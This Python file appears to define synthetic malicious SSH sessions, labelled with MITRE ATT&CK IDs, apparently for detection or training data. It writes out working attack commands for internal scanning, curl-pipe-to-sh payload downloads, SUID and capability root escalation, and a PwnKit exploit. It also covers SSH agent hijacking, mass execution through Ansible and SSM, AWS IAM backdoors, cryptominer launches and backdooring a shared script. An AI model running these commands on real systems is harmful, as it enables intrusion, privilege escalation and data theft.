"""Malicious sessions: discovery, privilege escalation, lateral movement and cloud abuse."""

from dsl import B, c, k, kp, p, ssh, wait, typo
from snips import (ID_ROOT, ID_UBUNTU, OS_RELEASE_JAMMY, aws_key, chars, df_h, hexs, ident, ip_addr, md5crypt,
                   ps_rows, shadow, uname_a, yescrypt)

AK, SK = aws_key("ci-deployer")
ACCOUNT = "412977305518"

SCENARIOS = [
    ssh("internal-recon-nmap", "carol.diaz:ubuntu@web-10", style="debian",
        T="T1016 T1018 T1046",
        risk="MEDIUM-HIGH",
        desc="Maps the host's networks, neighbours and hosts file, then port-scans the internal /22 for databases and admin services",
        steps=[
            c("ip -4 a | grep inet", "    inet 127.0.0.1/8 scope host lo\n    inet 10.20.2.31/24 metric 100 brd 10.20.2.255 scope global dynamic ens5"),
            c(typo("ip route", 3, "ru"), "default via 10.20.2.1 dev ens5 proto dhcp src 10.20.2.31 metric 100\n10.20.0.0/16 via 10.20.2.1 dev ens5\n10.20.2.0/24 dev ens5 proto kernel scope link src 10.20.2.31 metric 100"),
            c("cat /etc/resolv.conf | grep -v '^#'", "nameserver 127.0.0.53\noptions edns0 trust-ad\nsearch eu-west-1.compute.internal internal.acme-corp.example"),
            c("arp -an", "? (10.20.2.1) at 0a:8e:11:42:6c:01 [ether] on ens5\n? (10.20.2.44) at 0a:3d:70:9e:18:5b [ether] on ens5\n? (10.20.2.12) at 0a:51:c2:3f:99:2e [ether] on ens5"),
            c("cat /etc/hosts", "127.0.0.1 localhost\n10.20.4.10 pg-shop-01.internal pg-shop-01\n10.20.4.21 redis-01.internal\n10.20.1.5 bastion-01.internal\n\n# The following lines are desirable for IPv6 capable hosts\n::1 ip6-localhost ip6-loopback"),
            k("sudo nmap -sS -n -T4 --open -p 22,80,443,2379,3306,5432,6379,8080,9200,27017 10.20.0.0/22 -oG /tmp/.n.gnmap | tail -3",
              "Nmap done: 1024 IP addresses (61 hosts up) scanned in 48.27 seconds", run=48),
            c("grep -c open /tmp/.n.gnmap; grep -E '5432|6379|9200' /tmp/.n.gnmap | cut -d' ' -f2 | sort -u", "61\n10.20.1.40\n10.20.2.12\n10.20.3.15\n10.20.3.16"),
        ]),

    ssh("devtcp-port-scan", "uma.iyer:www-data@web-11", style="plain",
        T="T1046 T1059.004 T1018",
        risk="MEDIUM-HIGH",
        desc="Without nmap, uses bash /dev/tcp in a loop to find hosts with SSH, Postgres and Redis open",
        steps=[
            c("which nmap nc ncat", ""),
            kp("for h in 10.20.4.{1..30}; do for p in 22 5432 6379; do timeout 1 bash -c \"echo > /dev/tcp/$h/$p\" 2>/dev/null && echo \"$h:$p open\"; done; done",
               "10.20.4.5:22 open\n10.20.4.10:22 open\n10.20.4.10:5432 open\n10.20.4.21:6379 open\n10.20.4.22:6379 open", run=61),
            c("(printf 'INFO server\\r\\n'; sleep 1) | timeout 3 bash -c 'exec 3<>/dev/tcp/10.20.4.21/6379; cat >&3; cat <&3' | head -4", "$2741\r\n# Server\r\nredis_version:7.0.15\r\nredis_git_sha1:00000000"),
        ]),

    ssh("linpeas-enumeration", "kevin.obrien:app@api-prod-03", style="debian",
        T="T1105 T1059.004 T1082 T1083 T1057",
        risk="HIGH",
        desc="Downloads and pipes the linPEAS privilege-escalation enumeration script to sh and keeps its report in /dev/shm",
        steps=[
            kp("curl -fsSL http://198.51.100.77/t/linpeas.sh | sh -s -- -q -N 2>/dev/null | tee /dev/shm/.lp | grep -A3 -E 'Sudo version|SUID - Check|Interesting writable'", """
                ╔══════════╣ Sudo version
                Sudo version 1.9.9
                ╔══════════╣ SUID - Check easy privesc, exploits and write perms
                -rwsr-xr-x 1 root root 35K Mar 23  2022 /usr/bin/fusermount3
                -rwsr-xr-x 1 root root 47K Apr  9  2024 /usr/bin/mount
                -rwsr-xr-x 1 root root 31K Feb 26  2022 /usr/bin/pkexec  --->  Linux4.10_to_5.1.17(CVE-2019-13272)/rhel_6(CVE-2011-1485)/Generic_CVE-2021-4034
                ╔══════════╣ Interesting writable files owned by me or writable by everyone (not in Home) (max 200)
                /etc/app/config.d
                /opt/app/bin/healthcheck.sh""", run=95),
            c("wc -l /dev/shm/.lp", "2871 /dev/shm/.lp"),
        ]),

    ssh("host-survey-after-login", "tom.becker:svc-report@report-01", style="plain",
        T="T1033 T1082 T1057 T1049 T1087.001 T1069.001 T1007 T1201 T1124 T1680",
        risk="MEDIUM-HIGH",
        desc="Fresh login from an unusual address runs a full host survey: users, groups, processes, connections, services, password policy, storage",
        steps=[
            c("whoami; hostname; id", "svc-report\nreport-01\n" + ident("svc-report", 1005, [(1005, "svc-report"), (118, "ssl-cert")])),
            c("uname -a; cat /etc/issue", uname_a("report-01") + "\nUbuntu 22.04.4 LTS \\n \\l\n"),
            c("timedatectl | head -4", "               Local time: Tue 2025-03-25 03:12:48 UTC\n           Universal time: Tue 2025-03-25 03:12:48 UTC\n                 RTC time: Tue 2025-03-25 03:12:48\n                Time zone: Etc/UTC (UTC, +0000)"),
            c("getent group sudo adm docker", "sudo:x:27:ubuntu,jmarsh\nadm:x:4:syslog,ubuntu\ndocker:x:999:jmarsh"),
            c("awk -F: '$3>=1000 && $7 !~ /nologin/ {print $1\":\"$6}' /etc/passwd", "ubuntu:/home/ubuntu\njmarsh:/home/jmarsh\nsvc-report:/home/svc-report"),
            c("ps -eo user,pid,cmd --sort=user | grep -v '\\[' | head -12", """
                USER         PID CMD
                jmarsh     20122 -bash
                postgres    1101 /usr/lib/postgresql/14/bin/postgres -D /var/lib/postgresql/14/main -c config_file=/etc/postgresql/14/main/postgresql.conf
                root           1 /sbin/init
                root         688 /lib/systemd/systemd-journald
                root         901 /usr/sbin/cron -f -P
                root        1044 /usr/sbin/sshd -D
                svc-rep+    1322 /usr/bin/python3 /opt/report/worker.py"""),
            c("ss -tunap 2>/dev/null | grep -v 127.0.0 | head -6", """
                Netid State  Recv-Q Send-Q Local Address:Port   Peer Address:Port Process
                tcp   LISTEN 0      244          0.0.0.0:5432        0.0.0.0:*
                tcp   LISTEN 0      128          0.0.0.0:22          0.0.0.0:*
                tcp   ESTAB  0      0         10.20.6.14:22    203.0.113.118:50412
                tcp   ESTAB  0      0         10.20.6.14:41876     10.20.4.10:5432  users:(("python3",pid=1322,fd=7))"""),
            c("systemctl list-units --type=service --state=running --no-legend | awk '{print $1}' | tr '\\n' ' '", "cron.service dbus.service postgresql@14-main.service report-worker.service rsyslog.service ssh.service systemd-journald.service systemd-logind.service systemd-networkd.service systemd-resolved.service systemd-timesyncd.service systemd-udevd.service unattended-upgrades.service"),
            c("grep -E '^PASS_(MAX|MIN)_DAYS|^PASS_MIN_LEN' /etc/login.defs; grep pam_pwquality /etc/pam.d/common-password", "PASS_MAX_DAYS\t99999\nPASS_MIN_DAYS\t0"),
            c("lsblk -o NAME,SIZE,MOUNTPOINT; df -h /", "NAME         SIZE MOUNTPOINT\nnvme0n1       50G \n├─nvme0n1p1  49.9G /\n├─nvme0n1p14    4M \n└─nvme0n1p15  106M /boot/efi\nnvme1n1      500G /var/lib/postgresql\nFilesystem      Size  Used Avail Use% Mounted on\n/dev/root        49G   12G   37G  25% /"),
        ]),

    ssh("suid-python-privesc", "nina.kowalski:app@api-prod-04", style="debian",
        T="T1083 T1548.001",
        risk="HIGH-CRITICAL",
        desc="Finds a SUID python interpreter and uses it to spawn a root shell",
        steps=[
            k("find / -perm -4000 -type f 2>/dev/null", """
                /usr/bin/newgrp
                /usr/bin/chsh
                /usr/bin/passwd
                /usr/bin/gpasswd
                /usr/bin/su
                /usr/bin/mount
                /usr/bin/umount
                /usr/bin/sudo
                /usr/bin/fusermount3
                /usr/bin/chfn
                /usr/local/bin/python3.10
                /usr/lib/openssh/ssh-keysign
                /usr/lib/dbus-1.0/dbus-daemon-launch-helper"""),
            c(typo("ls -la /usr/local/bin/python3.10", 11, "lco"), "-rwsr-xr-x 1 root root 5904904 Jun 11  2024 /usr/local/bin/python3.10"),
            k("/usr/local/bin/python3.10 -c 'import os; os.setuid(0); os.execl(\"/bin/bash\", \"bash\", \"-p\")'", push=dict(user="root", login=False, exit_out="exit")),
            c("id", "uid=0(root) gid=1003(app) groups=1003(app)"),
            c("cat /root/.bash_history | tail -3", "apt-get install -y python3.10\ncp /usr/bin/python3.10 /usr/local/bin/ && chmod u+s /usr/local/bin/python3.10\nexit"),
        ]),

    ssh("sudo-find-gtfobins", "wendy.zhao:backup@backup-02", style="plain",
        T="T1548.003 T1059.004",
        risk="HIGH",
        desc="Uses a NOPASSWD sudo rule on find to execute a root shell (GTFOBins)",
        steps=[
            c("sudo -l", """
                Matching Defaults entries for backup on backup-02:
                    env_reset, mail_badpass, secure_path=/usr/local/sbin\\:/usr/local/bin\\:/usr/sbin\\:/usr/bin\\:/sbin\\:/bin\\:/snap/bin

                User backup may run the following commands on backup-02:
                    (root) NOPASSWD: /usr/bin/find /srv/backup -mtime +30 -delete, /usr/bin/find"""),
            k("sudo find . -exec /bin/sh -p \\; -quit", push=dict(user="root", style="dash", login=False, exit_out="")),
            c("id", "uid=0(root) gid=0(root) groups=0(root)"),
            c("cat /etc/shadow | grep -v ':\\*:' | head -3", "root:" + "$y$j9T$" + chars("b2root", 22, "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") + "$" + chars("b2rooth", 43, "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") + ":19874:0:99999:7:::\nubuntu:!:19874:0:99999:7:::\nbackup:!:19579:0:99999:7:::"),
        ]),

    ssh("capability-setuid-privesc", "grace.kim:svc-ml@ml-02", style="debian",
        T="T1083 T1548",
        risk="HIGH-CRITICAL",
        desc="Searches for binaries with file capabilities and abuses cap_setuid on a python copy to become root",
        steps=[
            k("getcap -r / 2>/dev/null", "/usr/bin/ping cap_net_raw=ep\n/usr/bin/mtr-packet cap_net_raw=ep\n/usr/lib/x86_64-linux-gnu/gstreamer1.0/gstreamer-1.0/gst-ptp-helper cap_net_bind_service,cap_net_admin=ep\n/opt/conda/bin/python3.11 cap_setuid=ep"),
            k("/opt/conda/bin/python3.11 -c 'import os; os.setuid(0); os.system(\"/bin/bash\")'", push=dict(user="root", login=False, exit_out="")),
            c("whoami", "root"),
            c("ls /root", "snap  train-cron.sh"),
        ]),

    ssh("writable-passwd-root-user", "hiro.tanaka:intern@lab-03", style="plain",
        T="T1083 T1136.001 T1548",
        risk="HIGH-CRITICAL",
        desc="Finds /etc/passwd world-writable, appends a UID 0 user with a known MD5-crypt hash and switches to it",
        steps=[
            c("ls -l /etc/passwd /etc/shadow", "-rw-rw-rw- 1 root root   2901 Jan  9 14:22 /etc/passwd\n-rw-r----- 1 root shadow 1708 Jan  9 14:22 /etc/shadow"),
            c("openssl passwd -1 -salt xy 'l4b-r00t'", md5crypt("labroot", "xy")),
            kp(f"echo 'toor:{md5crypt('labroot', 'xy')}:0:0:root:/root:/bin/bash' >> /etc/passwd"),
            k("su - toor", "Password: ", push=dict(user="root", login=True)),
            c("id", "uid=0(root) gid=0(root) groups=0(root)"),
        ]),

    ssh("suid-bash-copy", "ivan.petrov:root@app-11", style="debian",
        T="T1548.001 T1222.002 T1564.001",
        risk="HIGH",
        desc="While root, leaves a hidden SUID copy of bash behind for later privilege escalation",
        steps=[
            k("cp /bin/bash /var/tmp/.ICE && chmod 4755 /var/tmp/.ICE"),
            c("ls -la /var/tmp/.ICE", "-rwsr-xr-x 1 root root 1396520 Mar 13 23:02 /var/tmp/.ICE"),
            c("su - deploy -c '/var/tmp/.ICE -p -c id'", "uid=1001(deploy) gid=1001(deploy) euid=0(root) groups=1001(deploy)", push=False),
        ]),

    ssh("docker-socket-host-escape", "alice.chen:jmarsh@report-01", style="debian",
        T="T1069.001 T1610 T1611 T1059.013 T1003.008",
        risk="CRITICAL",
        desc="A docker-group user mounts the host root into a container and chroots into it to get root on the host",
        steps=[
            c("id", ident("jmarsh", 1001, [(1001, "jmarsh"), (27, "sudo"), (999, "docker")])),
            c(typo("ls -l /var/run/docker.sock", 15, "dokc"), "srw-rw---- 1 root docker 0 Feb 17 06:02 /var/run/docker.sock"),
            k("docker run --rm -it -v /:/host alpine:3.19 chroot /host /bin/bash", "", push=dict(user="root", host="f3a9c1d2e8b7", cwd="/", home="/root", exit_out="")),
            c("cat /etc/shadow | head -2", "root:" + "$y$j9T$" + chars("r01root", 22, "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") + "$" + chars("r01rooth", 43, "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") + ":19874:0:99999:7:::\ndaemon:*:19579:0:99999:7:::"),
            c("echo 'jmarsh ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/jmarsh"),
        ]),

    ssh("pwnkit-local-root", "priya.raman:app@api-prod-03", style="debian",
        T="T1082 T1105 T1068",
        risk="CRITICAL",
        desc="Checks the polkit version, downloads a PwnKit (CVE-2021-4034) exploit and runs it to get a root shell",
        steps=[
            c("dpkg -l policykit-1 | tail -1", "ii  policykit-1    0.105-26ubuntu1 amd64        framework for managing administrative policies and privileges"),
            k("curl -fsSLo /dev/shm/.pk http://198.51.100.77/x/PwnKit && chmod +x /dev/shm/.pk"),
            k("/dev/shm/.pk", push=dict(user="root", login=False, cwd="/home/app", exit_out="exit")),
            c("id", ID_ROOT),
            c("rm -f /dev/shm/.pk"),
        ]),

    ssh("dirtypipe-compiled-exploit", "bob.martin:dev@legacy-web-02", style="plain",
        T="T1082 T1027.004 T1068",
        risk="CRITICAL",
        desc="On an unpatched 5.10 kernel, compiles a Dirty Pipe (CVE-2022-0847) exploit and hijacks a SUID binary for root",
        steps=[
            c("uname -r", "5.10.0-9-amd64"),
            c("cd /tmp"),
            k("curl -fsSLo dp.c http://198.51.100.77/x/dirtypipez.c && gcc dp.c -o dp", ""),
            k("./dp /usr/bin/su", "[+] hijacking suid binary..\n[+] dropping suid shell..\n[+] restoring suid binary..\n[+] popping root shell.. (dont forget to clean up /tmp/sh ;))", push=dict(user="root", style="dash", login=False, exit_out="")),
            c("id", "uid=0(root) gid=0(root) groups=0(root),1000(dev)"),
        ]),

    ssh("lateral-ssh-stolen-key", "julia.santos:ansible@ansible-ctl-01", style="debian",
        T="T1018 T1552.004 T1021.004",
        risk="HIGH-CRITICAL",
        desc="Uses the automation account's private key to check which hosts accept it, then logs into the database host",
        steps=[
            c("grep -hE '^Host |HostName' ~/.ssh/config | head -8", "Host db-*\n    HostName %h.internal\nHost web-*\n    HostName %h.internal\nHost 10.20.*"),
            c("head -4 /etc/ansible/hosts", "[web]\nweb-0[1:6].internal\n[db]\npg-shop-01.internal"),
            kp("for h in pg-shop-01 pg-billing-01 redis-01; do ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -i ~/.ssh/id_rsa ansible@$h.internal hostname; done",
               "Warning: Permanently added 'pg-shop-01.internal' (ED25519) to the list of known hosts.\npg-shop-01\nWarning: Permanently added 'pg-billing-01.internal' (ED25519) to the list of known hosts.\npg-billing-01\nansible@redis-01.internal: Permission denied (publickey)."),
            k("ssh -i ~/.ssh/id_rsa ansible@pg-billing-01.internal", "Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-105-generic x86_64)\n\nLast login: Mon Mar 10 04:00:12 2025 from 10.20.1.9",
              push=dict(user="ansible", host="pg-billing-01", login=True, exit_out="logout\nConnection to pg-billing-01.internal closed.")),
            c("sudo -n true && echo ok", "ok"),
            c("sudo -u postgres psql -Atc 'select datname from pg_database'", "postgres\nbilling\ntemplate1\ntemplate0"),
        ]),

    ssh("scp-implant-lateral", "sam.okafor:ansible@ansible-ctl-01", style="debian",
        T="T1570 T1021.004",
        risk="HIGH-CRITICAL",
        desc="Copies an implant to three internal hosts with scp and starts it on each over ssh",
        steps=[
            c("ls -la /dev/shm/", "total 3344\ndrwxrwxrwt  2 root    root         60 Mar 15 02:40 .\ndrwxr-xr-x 19 root    root       3920 Feb 17 06:02 ..\n-rwxr-xr-x  1 ansible ansible 3411968 Mar 15 02:40 kworkerd"),
            kp("for h in 10.20.3.41 10.20.3.57 10.20.4.10; do scp -q -o StrictHostKeyChecking=no /dev/shm/kworkerd ansible@$h:/tmp/.kworkerd && ssh -o StrictHostKeyChecking=no ansible@$h 'nohup /tmp/.kworkerd >/dev/null 2>&1 & echo started on $(hostname)'; done",
               "started on backup-01\nstarted on ops-util-03\nstarted on pg-shop-01", run=7),
        ]),

    ssh("ssh-agent-socket-hijack", "frank.nguyen:root@bastion-02", style="plain",
        T="T1057 T1563.001 T1021.004",
        risk="HIGH-CRITICAL",
        desc="Root on the bastion borrows another admin's forwarded SSH agent socket to log into production hosts as them",
        steps=[
            c("ls -la /tmp/ssh-*", "/tmp/ssh-XXXXk2QmLp:\ntotal 8\ndrwx------  2 tbecker tbecker 4096 Mar 18 09:11 .\ndrwxrwxrwt 14 root    root    4096 Mar 18 10:02 ..\nsrwxr-xr-x  1 tbecker tbecker    0 Mar 18 09:11 agent.40290"),
            k("SSH_AUTH_SOCK=/tmp/ssh-XXXXk2QmLp/agent.40290 ssh-add -l", "256 SHA256:" + chars("tbkey", 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") + " tbecker@laptop (ED25519)"),
            kp("SSH_AUTH_SOCK=/tmp/ssh-XXXXk2QmLp/agent.40290 ssh -o StrictHostKeyChecking=no tbecker@pg-billing-01.internal 'sudo -n id; hostname'", "uid=0(root) gid=0(root) groups=0(root)\npg-billing-01"),
        ]),

    ssh("ansible-mass-execution", "li.wei:ansible@ansible-ctl-01", style="debian",
        T="T1072 T1105 T1059.004",
        risk="CRITICAL",
        desc="Uses the configuration-management controller to download and run a script as root on every managed host",
        steps=[
            c("ansible all --list-hosts | head -3", "  hosts (43):\n    web-01.internal\n    web-02.internal"),
            kp("ansible all -b -f 20 -m shell -a 'curl -fsSL http://203.0.113.14/a | sh' -o 2>/dev/null | cut -c1-60 | head -5", """
                web-01.internal | CHANGED | rc=0 | (stdout) ok
                web-02.internal | CHANGED | rc=0 | (stdout) ok
                web-03.internal | CHANGED | rc=0 | (stdout) ok
                pg-shop-01.internal | CHANGED | rc=0 | (stdout) ok
                backup-01.internal | CHANGED | rc=0 | (stdout) ok""", run=31),
        ]),

    ssh("aws-iam-backdoor-user", "omar.haddad:ec2-user@ci-runner-05", style="rhel",
        T="T1059.009 T1087.004 T1619 T1136.003 T1098.003 T1098.001",
        risk="CRITICAL",
        desc="With the CI runner's AWS credentials, enumerates IAM and S3, then creates an admin IAM user with access keys",
        steps=[
            c("aws sts get-caller-identity", f'{{\n    "UserId": "AIDA{chars("ciuid", 17, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")}",\n    "Account": "{ACCOUNT}",\n    "Arn": "arn:aws:iam::{ACCOUNT}:user/ci-deployer"\n}}'),
            c("aws iam list-users --query 'Users[].UserName' --output text", "alice.chen  ci-deployer  dev.patel  grafana-cloudwatch  terraform"),
            c("aws s3 ls", "2023-04-11 09:12:41 acme-prod-artifacts\n2022-11-02 15:33:09 acme-prod-db-backups\n2023-01-19 10:02:55 acme-prod-logs\n2024-06-03 08:14:17 acme-tfstate"),
            k("aws iam create-user --user-name svc-backup-sync --query User.Arn --output text", f"arn:aws:iam::{ACCOUNT}:user/svc-backup-sync"),
            k("aws iam attach-user-policy --user-name svc-backup-sync --policy-arn arn:aws:iam::aws:policy/AdministratorAccess"),
            k("aws iam create-access-key --user-name svc-backup-sync --output text", f"ACCESSKEY\t{AK}\t2025-03-16T02:41:09+00:00\t{SK}\tActive\tsvc-backup-sync"),
        ]),

    ssh("aws-ssm-fleet-command-s3-theft", "victor.ruiz:ubuntu@ops-util-04", style="debian",
        T="T1580 T1651 T1059.009 T1530",
        risk="CRITICAL",
        desc="Lists EC2 instances, runs a download-and-execute command on all of them through SSM and syncs the database backup bucket locally",
        steps=[
            c("aws ec2 describe-instances --query 'Reservations[].Instances[].[InstanceId,Tags[?Key==`Name`]|[0].Value]' --output text | head -4", "i-0a1b2c3d4e5f60718\tweb-01\ni-0b2c3d4e5f6071829\tweb-02\ni-0c3d4e5f607182930\tpg-shop-01\ni-0d4e5f60718293041\tbackup-01"),
            kp("aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=[\"curl -fsSL http://203.0.113.14/a | sh\"]' --query Command.CommandId --output text",
               f"{hexs('ssmcmd', 8)}-{hexs('ssm2', 4)}-{hexs('ssm3', 4)}-{hexs('ssm4', 4)}-{hexs('ssm5', 12)}"),
            k("aws s3 sync s3://acme-prod-db-backups/pg-shop-01/2025-03/ /var/tmp/.b/ --only-show-errors"),
            c("du -sh /var/tmp/.b", "38G\t/var/tmp/.b", run=1),
        ]),

    ssh("aws-unused-region-miners", "kevin.obrien:ubuntu@ops-util-04", style="debian",
        T="T1578.002 T1535 T1496.001",
        risk="CRITICAL",
        desc="Launches ten large compute instances in an unused AWS region with a mining user-data script",
        steps=[
            c("cat m.sh", "#!/bin/bash\ncurl -fsSL http://203.0.113.14/xm.tgz | tar xz -C /opt && /opt/xmrig -o pool.supportxmr.com:443 -u 48Ad" + chars("wallet", 60) + " -k --tls -B"),
            kp("aws ec2 run-instances --region ap-southeast-3 --image-id ami-0f1e2d3c4b5a69788 --instance-type c5.24xlarge --count 10 --user-data file://m.sh --query 'Instances[].InstanceId' --output text",
               " ".join(f"i-0{hexs('mi' + str(n), 16)}" for n in range(10))),
            c("aws ec2 describe-instances --region ap-southeast-3 --filters Name=instance-state-name,Values=running --query 'length(Reservations[].Instances[])'", "10"),
        ]),

    ssh("sshpass-password-reuse", "hiro.tanaka:root@build-02", style="plain",
        T="T1078.003 T1021.004 T1018",
        risk="HIGH-CRITICAL",
        desc="Reuses a password cracked from the build host's shadow file to log into the other build and CI hosts with sshpass",
        steps=[
            c("grep -h 'build\\|ci-' /etc/hosts", "10.20.8.11 build-01.internal build-01\n10.20.8.13 build-03.internal build-03\n10.20.8.21 ci-runner-01.internal ci-runner-01"),
            kp("for h in build-01 build-03 ci-runner-01; do sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no -o ConnectTimeout=4 jenkins@$h.internal 'hostname; id -Gn'; done",
               "build-01\njenkins docker\nbuild-03\njenkins docker\nPermission denied, please try again."),
            k("sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no jenkins@build-01.internal", "Last login: Fri Mar  7 14:02:11 2025 from 10.20.8.5",
              push=dict(user="jenkins", host="build-01", login=True, home="/var/lib/jenkins", exit_out="logout\nConnection to build-01.internal closed.")),
            c("ls ~/.ssh", "id_ed25519  id_ed25519.pub  known_hosts"),
            c("docker ps -q | wc -l", "7"),
        ]),

    ssh("nfs-shared-script-taint", "kevin.obrien:deploy@app-16", style="debian",
        T="T1080 T1105 T1059.004",
        risk="HIGH-CRITICAL",
        desc="Appends a download-and-execute line to a deployment helper on the shared NFS mount that every app host sources",
        steps=[
            c("mount | grep nfs", "nfs-01.internal:/export/shared on /mnt/shared type nfs4 (rw,relatime,vers=4.2,rsize=1048576,wsize=1048576,hard,proto=tcp,timeo=600)"),
            c("grep -rl 'deploy-common.sh' /mnt/shared/scripts | head -3", "/mnt/shared/scripts/deploy-app.sh\n/mnt/shared/scripts/deploy-worker.sh\n/mnt/shared/scripts/nightly-maintenance.sh"),
            c("ls -l /mnt/shared/scripts/deploy-common.sh", "-rwxrwxr-x 1 root deploy 2210 Nov 14 09:12 /mnt/shared/scripts/deploy-common.sh"),
            kp("echo '(curl -fsSL http://203.0.113.14/c.sh | bash >/dev/null 2>&1 &) # health probe' >> /mnt/shared/scripts/deploy-common.sh"),
            k("touch -d '2024-11-14 09:12' /mnt/shared/scripts/deploy-common.sh"),
        ]),

    ssh("aws-ssm-session-pivot", "omar.haddad:ec2-user@ci-runner-05", style="rhel",
        T="T1078.004 T1021.008 T1003.008",
        risk="CRITICAL",
        desc="With stolen cloud credentials, opens an SSM Session Manager shell on the database instance and reads its shadow file",
        steps=[
            c("aws ec2 describe-instances --filters Name=tag:Name,Values=pg-shop-01 --query 'Reservations[].Instances[].InstanceId' --output text", "i-0c3d4e5f607182930"),
            k("aws ssm start-session --target i-0c3d4e5f607182930", "\nStarting session with SessionId: ci-deployer-" + hexs("ssmsess", 17),
              push=dict(user="ssm-user", host="ip-10-20-4-10", login=False, cwd="/usr/bin", home="/home/ssm-user", style="sh52",
                        exit_out="\n\nExiting session with sessionId: ci-deployer-" + hexs("ssmsess", 17) + ".\n")),
            c("sudo -n id", "uid=0(root) gid=0(root) groups=0(root)"),
            k("sudo cat /etc/shadow | grep -v '[*!]:'", "root:" + yescrypt("pgshop01root") + ":19874:0:99999:7:::\npostgres:" + yescrypt("pgshop01pg") + ":19901:0:99999:7:::"),
            c("exit"),
        ]),

    ssh("kubectl-cp-tool-into-pods", "victor.ruiz@bastion-01", style="debian",
        T="T1570 T1609 T1613",
        risk="HIGH-CRITICAL",
        desc="Copies a tool into running pods of several namespaces with kubectl cp and starts it with kubectl exec",
        steps=[
            c("kubectl get pods -A -l tier=backend --no-headers | awk '{print $1\"/\"$2}' | head -4", "payments/payments-api-7d9f8b6c4-x2k9p\nshop/shop-web-6c9d7f5b8-q4wzt\nshop/shop-worker-7d9c5b6f4-2mvnb\nbilling/billing-worker-58d6c7b9f-2mvnb"),
            kp("for p in payments/payments-api-7d9f8b6c4-x2k9p shop/shop-web-6c9d7f5b8-q4wzt billing/billing-worker-58d6c7b9f-2mvnb; do kubectl cp /tmp/.kd ${p%%/*}/${p#*/}:/tmp/.kd && kubectl exec -n ${p%%/*} ${p#*/} -- sh -c 'chmod +x /tmp/.kd; nohup /tmp/.kd >/dev/null 2>&1 &'; done", run=9),
        ]),

    ssh("ssh-controlmaster-hijack", "nina.kowalski:root@jump-04", style="plain",
        T="T1083 T1563.001",
        risk="HIGH-CRITICAL",
        desc="Root reuses an admin's open SSH ControlMaster sockets to run commands on production hosts without credentials",
        steps=[
            c("ls -la /home/ops/.ssh/cm/", "total 8\ndrwx------ 2 ops ops 4096 Mar 21 08:12 .\ndrwx------ 3 ops ops 4096 Jan  9 10:02 ..\nsrw------- 1 ops ops    0 Mar 21 08:12 ops@pg-billing-01.internal:22\nsrw------- 1 ops ops    0 Mar 21 09:40 ops@vault-01.internal:22"),
            kp("ssh -S '/home/ops/.ssh/cm/ops@vault-01.internal:22' -O check vault-01.internal", "Master running (pid=40112)"),
            kp("ssh -S '/home/ops/.ssh/cm/ops@vault-01.internal:22' vault-01.internal 'hostname; sudo -n ls /etc/vault.d'", "vault-01\nvault.hcl\nvault-tls.key\nvault-tls.pem"),
        ]),
]
